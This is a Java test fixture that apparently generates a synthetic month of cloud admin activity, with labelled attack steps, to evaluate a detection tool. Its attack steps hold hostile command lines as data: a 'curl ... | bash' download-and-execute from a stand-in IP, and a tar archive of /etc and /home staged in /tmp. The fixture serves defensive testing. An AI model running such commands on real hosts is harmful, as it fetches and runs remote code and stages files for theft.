package io.runwatch.core.evaluation;

import io.runwatch.core.correlate.CommandCorrelation;
import io.runwatch.core.correlate.CorrelationStatus;
import io.runwatch.core.correlate.Evidence;
import io.runwatch.core.correlate.OrphanExecution;
import io.runwatch.core.correlate.TargetCorrelation;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.Cloud;
import io.runwatch.core.model.HostExecution;
import io.runwatch.core.model.IdentityChange;
import io.runwatch.core.model.Operation;
import io.runwatch.core.model.Outcome;
import io.runwatch.core.model.Principal;
import io.runwatch.core.model.PrincipalKind;
import io.runwatch.core.model.TelemetryFormat;
import io.runwatch.core.model.VmRef;
import java.time.DayOfWeek;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;

/**
 * A month (2026-10-01 .. 2026-10-30, UTC) of benign admin activity in one AWS account, one Azure
 * subscription and one GCP project, with labelled attack steps in the last ten days. Deterministic:
 * the same seed gives the same scenario. See {@code src/test/resources/evaluation/README.md}.
 */
final class ScenarioGenerator {
  static final String AWS_ACCOUNT = "111122223333";
  static final String AZ_SUB = "6f1c2d3e-4a5b-4c6d-8e7f-9a0b1c2d3e4f";
  static final String GCP_PROJECT = "example-prod";
  static final LocalDate FIRST_DAY = LocalDate.of(2026, 10, 1);
  static final LocalDate LAST_DAY = LocalDate.of(2026, 10, 30);

  /** Commands at or before this instant only teach the baselines (days 1 to 14). */
  static final Instant LEARN_UNTIL =
      FIRST_DAY.plusDays(14).atStartOfDay(ZoneOffset.UTC).toInstant();

  static final Instant NOW = LAST_DAY.plusDays(1).atStartOfDay(ZoneOffset.UTC).toInstant();

  static final String ORPHAN = "RW-ORPHAN-EXECUTION";

  /**
   * One attack step: a command (or an orphan execution) and the detectors that should fire on it.
   */
  record AttackStep(
      String id,
      String story,
      AdminCommand command,
      OrphanExecution orphan,
      Set<String> expected) {}

  /** Everything the pipeline is given, plus the labels. */
  record Scenario(
      List<AdminCommand> benign,
      List<AttackStep> attacks,
      Map<AdminCommand, CommandCorrelation> correlations,
      List<OrphanExecution> orphans,
      List<IdentityChange> identityChanges) {
    List<AdminCommand> commands() {
      List<AdminCommand> all = new ArrayList<>(benign);
      attacks.stream().filter(a -> a.command() != null).forEach(a -> all.add(a.command()));
      return all;
    }
  }

  // --- principals --------------------------------------------------------------------------

  static final Principal PATCH_ROLE =
      new Principal(
          "arn:aws:sts::111122223333:assumed-role/PatchAutomation/mw-0a1b2c3d4e5f60789",
          "PatchAutomation/mw-0a1b2c3d4e5f60789",
          PrincipalKind.ROLE_SESSION,
          "arn:aws:iam::111122223333:role/PatchAutomation",
          null);
  static final Principal CI_ROLE =
      new Principal(
          "arn:aws:sts::111122223333:assumed-role/ci-inventory/gha-inventory",
          "ci-inventory/gha-inventory",
          PrincipalKind.ROLE_SESSION,
          "arn:aws:iam::111122223333:role/ci-inventory",
          null);
  static final Principal ALICE =
      new Principal(
          "arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_AdministratorAccess_0123456789abcdef/alice@example.com",
          "alice@example.com",
          PrincipalKind.HUMAN,
          "arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_AdministratorAccess_0123456789abcdef",
          null);
  static final Principal BOB =
      new Principal(
          "arn:aws:iam::111122223333:user/bob",
          "bob",
          PrincipalKind.HUMAN,
          null,
          "AKIAEXAMPLEBOBOLD001");
  static final Principal BOB_STOLEN_KEY =
      new Principal(
          "arn:aws:iam::111122223333:user/bob",
          "bob",
          PrincipalKind.HUMAN,
          null,
          "AKIAEXAMPLEBOBNEW002");
  static final Principal DAVE =
      new Principal(
          "arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_ReadOnly_fedcba9876543210/dave@example.com",
          "dave@example.com",
          PrincipalKind.HUMAN,
          null,
          null);
  static final Principal CAROL =
      new Principal("carol@example.com", "carol@example.com", PrincipalKind.HUMAN, null, null);
  static final Principal ERIN =
      new Principal("erin@example.com", "erin@example.com", PrincipalKind.HUMAN, null, null);
  static final Principal AZ_RUNBOOKS =
      new Principal(
          "0a1b2c3d-1111-4222-8333-944455556666",
          "ops-runbooks",
          PrincipalKind.SERVICE_ACCOUNT,
          "7d3c2b1a-aaaa-4bbb-8ccc-0d1e2f3a4b5c",
          null);
  static final Principal GINA =
      new Principal("gina@example.com", "gina@example.com", PrincipalKind.HUMAN, null, null);
  static final Principal PATCH_RUNNER =
      new Principal(
          "patch-runner@example-prod.iam.gserviceaccount.com",
          "patch-runner@example-prod.iam.gserviceaccount.com",
          PrincipalKind.SERVICE_ACCOUNT,
          null,
          null);

  // --- VMs ---------------------------------------------------------------------------------

  static final List<VmRef> AWS_APP = awsVms("i-0a00000000000app", 4);
  static final List<VmRef> AZ_APP = azureVms("azapp", 4);
  static final List<VmRef> AZ_WEB = azureVms("azweb", 6);
  static final List<VmRef> GCE_APP = gceVms("gce-app", 4);

  private final Random random;
  private final List<AdminCommand> benign = new ArrayList<>();
  private final List<AttackStep> attacks = new ArrayList<>();
  private final Map<AdminCommand, CommandCorrelation> correlations = new LinkedHashMap<>();
  private final List<OrphanExecution> orphans = new ArrayList<>();
  private final List<IdentityChange> identityChanges = new ArrayList<>();
  private int sequence;

  private ScenarioGenerator(long seed) {
    this.random = new Random(seed);
  }

  static Scenario generate(long seed) {
    ScenarioGenerator g = new ScenarioGenerator(seed);
    for (LocalDate d = FIRST_DAY; !d.isAfter(LAST_DAY); d = d.plusDays(1)) {
      g.benignDay(d);
    }
    g.attacks();
    return new Scenario(
        List.copyOf(g.benign),
        List.copyOf(g.attacks),
        Map.copyOf(g.correlations),
        List.copyOf(g.orphans),
        List.copyOf(g.identityChanges));
  }

  // --- benign ------------------------------------------------------------------------------

  private void benignDay(LocalDate d) {
    DayOfWeek dow = d.getDayOfWeek();
    boolean workday = dow != DayOfWeek.SATURDAY && dow != DayOfWeek.SUNDAY;

    // Daily software inventory by the CI role (approved, any time).
    benign.add(
        aws(at(d, 6, random.nextInt(20)), CI_ROLE, Operation.START_ASSOCIATIONS_ONCE)
            .eventName("StartAssociationsOnce")
            .document("AWS-GatherSoftwareInventory")
            .targetSelector("tag:Inventory=enabled")
            .targetCount(40)
            .sourceIp("10.20.0.15")
            .build());

    if (dow == DayOfWeek.WEDNESDAY) {
      // AWS patch baseline, Wed 02:00-04:00, and the GCP weekly patch job, Wed 04:00-06:00.
      benign.add(
          aws(at(d, 2, 5 + random.nextInt(10)), PATCH_ROLE, Operation.SEND_COMMAND)
              .eventName("SendCommand")
              .document("AWS-RunPatchBaseline")
              .targetSelector("tag:PatchGroup=web")
              .targetCount(30)
              .sourceIp("ssm.amazonaws.com")
              .build());
      benign.add(
          gcp(at(d, 4, 10 + random.nextInt(10)), PATCH_RUNNER, Operation.PATCH_JOB)
              .eventName("google.cloud.osconfig.v1.OsConfigService.ExecutePatchJob")
              .document("weekly-web-" + d)
              .targetSelector("labels=(role=web)")
              .sourceIp("osconfig.googleapis.com")
              .build());
    }
    if (dow == DayOfWeek.SATURDAY) {
      // Azure runbooks install security updates on the web tier, Sat 01:00-04:00.
      benign.add(
          azure(at(d, 1, 30 + random.nextInt(20)), AZ_RUNBOOKS, Operation.MANAGED_RUN_COMMAND)
              .eventName("Microsoft.Compute/virtualMachines/runCommands/write")
              .document("InstallSecurityUpdates")
              .targets(AZ_WEB)
              .sourceIp("10.50.0.4")
              .build());
    }
    if (!workday) {
      return;
    }
    // alice: Run Command and sessions on the app tier, from the office.
    int n = 1 + random.nextInt(3);
    for (int i = 0; i < n; i++) {
      boolean session = random.nextInt(3) == 0;
      benign.add(
          aws(workHours(d), ALICE, session ? Operation.START_SESSION : Operation.SEND_COMMAND)
              .eventName(session ? "StartSession" : "SendCommand")
              .document(session ? "SSM-SessionManagerRunShell" : "AWS-RunShellScript")
              .targets(List.of(pick(AWS_APP)))
              .sourceIp(office("198.51.100.", 10, 11))
              .build());
    }
    // bob: one command most days with his legacy IAM user key.
    if (random.nextInt(4) != 0) {
      benign.add(
          aws(workHours(d), BOB, Operation.SEND_COMMAND)
              .eventName("SendCommand")
              .document("AWS-RunShellScript")
              .targets(List.of(pick(AWS_APP)))
              .sourceIp(office("198.51.100.", 20, 21))
              .build());
    }
    // dave (read-only) now and then tries a command after hours and is denied; he never retries.
    if (random.nextInt(4) == 0) {
      benign.add(
          aws(at(d, 19, random.nextInt(50)), DAVE, Operation.SEND_COMMAND)
              .eventName("SendCommand")
              .document("AWS-RunShellScript")
              .targets(List.of(AWS_APP.get(0)))
              .sourceIp("198.51.100.30")
              .outcome(Outcome.DENIED)
              .errorCode("AccessDenied")
              .build());
    }
    // carol: Run Command on the Azure app tier.
    n = 1 + random.nextInt(2);
    for (int i = 0; i < n; i++) {
      benign.add(
          azure(workHours(d), CAROL, Operation.RUN_COMMAND_ACTION)
              .eventName("Microsoft.Compute/virtualMachines/runCommand/action")
              .document("RunShellScript")
              .targets(List.of(pick(AZ_APP)))
              .sourceIp(office("192.0.2.", 40, 41))
              .build());
    }
    if (random.nextInt(5) == 0) {
      benign.add(
          azure(at(d, 19, random.nextInt(50)), ERIN, Operation.RUN_COMMAND_ACTION)
              .eventName("Microsoft.Compute/virtualMachines/runCommand/action")
              .document("RunShellScript")
              .targets(List.of(AZ_APP.get(3)))
              .sourceIp("192.0.2.55")
              .outcome(Outcome.DENIED)
              .errorCode("AuthorizationFailed")
              .build());
    }
    // gina: ad-hoc patch jobs on single GCE app instances.
    if (random.nextInt(3) != 0) {
      VmRef vm = pick(GCE_APP);
      benign.add(
          gcp(workHours(d), GINA, Operation.PATCH_JOB)
              .eventName("google.cloud.osconfig.v1.OsConfigService.ExecutePatchJob")
              .document("adhoc-" + vm.name())
              .targets(List.of(vm))
              .sourceIp(office("198.51.100.", 60, 61))
              .build());
    }
  }

  // --- attacks -----------------------------------------------------------------------------

  private void attacks() {
    // (c) Thu 10-22: a web server's instance role pivots to another VM. A VM's identity is never
    // an admin, and it never ran a command in this account before.
    attack(
        "c-aws-instance-pivot",
        "web instance role i-0web00000000007 sends a shell script to a database VM",
        aws(Instant.parse("2026-10-22T14:12:00Z"), instanceRole(), Operation.SEND_COMMAND)
            .eventName("SendCommand")
            .document("AWS-RunShellScript")
            .targets(List.of(VmRef.of("i-0d00000000000db1")))
            .sourceIp("10.0.1.27")
            .build(),
        "RW-NON-ADMIN-IDENTITY",
        "RW-FIRST-SEEN-INITIATOR");

    // (a) Fri 10-23 evening: bob's console password was phished; the attacker creates an access
    // key for him and uses it from a new address, denied twice before a command gets through.
    identityChanges.add(
        new IdentityChange(
            Cloud.AWS,
            AWS_ACCOUNT,
            BOB.id(),
            BOB.id(),
            IdentityChange.Kind.ACCESS_KEY_CREATED,
            Instant.parse("2026-10-23T21:40:00Z"),
            "AKIAEXAMPLEBOBNEW002",
            "ev-createaccesskey-1",
            null));
    // NEW-SOURCE fires on the first use of the address only: the baseline learns every command,
    // denied ones included, so from the second attempt on the address is no longer new.
    attack(
        "a1-stolen-key-denied",
        "stolen key, first attempt from 203.0.113.77: denied on the database VM",
        stolen("2026-10-23T21:52:00Z", "i-0d00000000000db1", Outcome.DENIED),
        "RW-NEW-SOURCE",
        "RW-RECENT-IDENTITY-CHANGE");
    attack(
        "a2-stolen-key-denied",
        "stolen key, second attempt: denied again",
        stolen("2026-10-23T21:55:00Z", "i-0d00000000000db1", Outcome.DENIED),
        "RW-RECENT-IDENTITY-CHANGE");
    attack(
        "a3-stolen-key-succeeds",
        "stolen key, third attempt on an app VM succeeds",
        stolen("2026-10-23T22:01:00Z", AWS_APP.get(2).id(), Outcome.SUCCEEDED),
        "RW-FAILED-THEN-SUCCEEDED",
        "RW-RECENT-IDENTITY-CHANGE");

    // (c2) Mon 10-26: an Azure VM's system-assigned managed identity runs a command on another VM.
    attack(
        "c2-azure-managed-identity-pivot",
        "azapp-02's managed identity invokes Run Command on azapp-04",
        azure(
                Instant.parse("2026-10-26T11:03:00Z"),
                new Principal(
                    "5e6f7a8b-2222-4333-8444-a55566667777",
                    "azapp-02 (system-assigned identity)",
                    PrincipalKind.INSTANCE_IDENTITY,
                    AZ_APP.get(1).id(),
                    null),
                Operation.RUN_COMMAND_ACTION)
            .eventName("Microsoft.Compute/virtualMachines/runCommand/action")
            .document("RunShellScript")
            .targets(List.of(AZ_APP.get(3)))
            .sourceIp("10.60.1.12")
            .build(),
        "RW-NON-ADMIN-IDENTITY",
        "RW-FIRST-SEEN-INITIATOR");

    // (d) Tue 10-27: gina's session (a declared admin, from the office, on a VM she patches)
    // plants a download-and-execute startup script on a running instance: it waits for the next
    // boot. The who/where/when are all normal; only what and how give it away.
    attack(
        "d-gcp-startup-script",
        "startup script with curl | bash set on running instance gce-app-02",
        gcp(Instant.parse("2026-10-27T15:20:00Z"), GINA, Operation.STARTUP_SCRIPT_CHANGE)
            .eventName("v1.compute.instances.setMetadata")
            .document("startup-script")
            .content("#!/bin/bash\ncurl -s http://203.0.113.9/x | bash\n")
            .targets(List.of(GCE_APP.get(1)))
            .sourceIp("198.51.100.60")
            .build(),
        "RW-STAGING",
        "RW-SUSPICIOUS-CONTENT");

    // (e) Wed 10-28 23:10: the SSM agent on an app VM runs a script no control-plane record
    // explains (the trail was stopped, or the agent was driven locally).
    String orphanCmd = "6d1f0c2e-9b8a-4c7d-a1e2-f3a4b5c6d7e8";
    String vm = AWS_APP.get(3).id();
    HostExecution worker =
        exec(
            vm,
            Instant.parse("2026-10-28T23:10:00Z"),
            "/bin/sh /var/lib/amazon/ssm/"
                + vm
                + "/document/orchestration/"
                + orphanCmd
                + "/awsrunShellScript/0.awsrunShellScript/_script.sh");
    HostExecution child =
        exec(vm, Instant.parse("2026-10-28T23:10:01Z"), "tar czf /tmp/.d.tgz /etc /home");
    OrphanExecution orphan =
        new OrphanExecution(
            vm,
            "ip-10-0-1-44",
            "aws-run-command",
            orphanCmd,
            List.of(new Evidence(vm, worker, "aws-run-command", orphanCmd, List.of(child))));
    orphans.add(orphan);
    attacks.add(
        new AttackStep(
            "e-orphan-execution",
            "SSM agent execution on app VM 4 with no control-plane record",
            null,
            orphan,
            Set.of(ORPHAN)));

    // (b) Fri 10-30 03:00: the inventory CI role (approved for StartAssociationsOnce only) sends a
    // shell script to the 30 web VMs; host telemetry shows 27 of them ran curl | bash.
    //
    // Not labelled RW-NON-ADMIN-IDENTITY: that detector stays quiet, by design, for the principal
    // of any approved automation (ApprovedAutomation#isPrincipalOf) and leaves "outside its
    // declared scope" to the scope detectors, which are labelled here.
    String cmdId = "0f9e8d7c-6b5a-4321-8fed-cba987654321";
    AdminCommand fanOut =
        aws(Instant.parse("2026-10-30T03:00:00Z"), CI_ROLE, Operation.SEND_COMMAND)
            .eventName("SendCommand")
            .document("AWS-RunShellScript")
            .targetSelector("tag:PatchGroup=web")
            .targetCount(30)
            .commandId(cmdId)
            .sourceIp("10.20.0.15")
            .build();
    List<TargetCorrelation> targets = new ArrayList<>();
    for (int i = 1; i <= 30; i++) {
      String web = String.format("i-0web0000000000%02d", i);
      Instant t = Instant.parse("2026-10-30T03:00:05Z").plusSeconds(i);
      HostExecution script =
          exec(
              web,
              t,
              "/bin/sh /var/lib/amazon/ssm/"
                  + web
                  + "/document/orchestration/"
                  + cmdId
                  + "/awsrunShellScript/0.awsrunShellScript/_script.sh");
      HostExecution curl = exec(web, t.plusSeconds(1), "curl -s http://203.0.113.9/x | bash");
      // On web-28..30 the EDR killed the worker: the hosts report telemetry, but no execution.
      boolean blocked = i > 27;
      targets.add(
          new TargetCorrelation(
              web,
              String.format("web-%02d", i),
              blocked ? CorrelationStatus.NOT_OBSERVED : CorrelationStatus.CONFIRMED,
              blocked
                  ? List.of()
                  : List.of(new Evidence(web, script, "aws-run-command", cmdId, List.of(curl))),
              "Success",
              true));
    }
    correlations.put(fanOut, new CommandCorrelation(fanOut, targets, null));
    attack(
        "b-ci-fan-out",
        "CI role fans curl | bash out to 30 web VMs at 03:00 on a Friday",
        fanOut,
        "RW-FAN-OUT",
        "RW-OUTSIDE-WINDOW",
        "RW-SUSPICIOUS-CONTENT",
        "RW-NOT-MATERIALIZED");
  }

  private void attack(String id, String story, AdminCommand c, String... expected) {
    attacks.add(new AttackStep(id, story, c, null, Set.of(expected)));
  }

  private AdminCommand stolen(String time, String vm, Outcome outcome) {
    return aws(Instant.parse(time), BOB_STOLEN_KEY, Operation.SEND_COMMAND)
        .eventName("SendCommand")
        .document("AWS-RunShellScript")
        .targets(List.of(VmRef.of(vm)))
        .sourceIp("203.0.113.77")
        .userAgent("aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0")
        .outcome(outcome)
        .errorCode(outcome == Outcome.DENIED ? "AccessDenied" : null)
        .build();
  }

  private static Principal instanceRole() {
    return new Principal(
        "arn:aws:sts::111122223333:assumed-role/web-instance-role/i-0web00000000007",
        "web-instance-role/i-0web00000000007",
        PrincipalKind.INSTANCE_IDENTITY,
        "arn:aws:iam::111122223333:role/web-instance-role",
        null);
  }

  // --- helpers -----------------------------------------------------------------------------

  private AdminCommand.Builder aws(Instant t, Principal p, Operation op) {
    return base(t, p, op).account(AWS_ACCOUNT).region("eu-west-1");
  }

  private AdminCommand.Builder azure(Instant t, Principal p, Operation op) {
    return base(t, p, op).account(AZ_SUB).region("westeurope");
  }

  private AdminCommand.Builder gcp(Instant t, Principal p, Operation op) {
    return base(t, p, op).account(GCP_PROJECT).region("europe-west1-b");
  }

  private AdminCommand.Builder base(Instant t, Principal p, Operation op) {
    int n = ++sequence;
    return AdminCommand.builder()
        .operation(op)
        .principal(p)
        .time(t)
        .eventId(String.format("ev-%05d", n))
        .commandId(String.format("cmd-%05d", n));
  }

  private static HostExecution exec(String host, Instant t, String commandLine) {
    return new HostExecution(
        host,
        t,
        null,
        null,
        commandLine.startsWith("/bin/sh") ? "/bin/sh" : "/usr/bin/bash",
        commandLine,
        "root",
        "/usr/bin/ssm-document-worker",
        null,
        null,
        TelemetryFormat.AUDITD,
        null,
        null);
  }

  private static Instant at(LocalDate d, int hour, int minute) {
    return d.atTime(hour, minute).toInstant(ZoneOffset.UTC);
  }

  /** 09:00 to 16:59 UTC. */
  private Instant workHours(LocalDate d) {
    return at(d, 9 + random.nextInt(8), random.nextInt(60));
  }

  private String office(String prefix, int lo, int hi) {
    return prefix + (lo + random.nextInt(hi - lo + 1));
  }

  private VmRef pick(List<VmRef> vms) {
    return vms.get(random.nextInt(vms.size()));
  }

  private static List<VmRef> awsVms(String prefix, int n) {
    List<VmRef> out = new ArrayList<>();
    for (int i = 1; i <= n; i++) {
      out.add(VmRef.of(prefix + i));
    }
    return List.copyOf(out);
  }

  private static List<VmRef> azureVms(String prefix, int n) {
    List<VmRef> out = new ArrayList<>();
    for (int i = 1; i <= n; i++) {
      String name = String.format("%s-%02d", prefix, i);
      out.add(
          new VmRef(
              "/subscriptions/"
                  + AZ_SUB
                  + "/resourcegroups/rg-"
                  + prefix
                  + "/providers/microsoft.compute/virtualmachines/"
                  + name,
              name));
    }
    return List.copyOf(out);
  }

  private static List<VmRef> gceVms(String prefix, int n) {
    List<VmRef> out = new ArrayList<>();
    for (int i = 1; i <= n; i++) {
      out.add(new VmRef(String.valueOf(4_100_000_000_000_000_000L + i), prefix + "-0" + i));
    }
    return List.copyOf(out);
  }
}
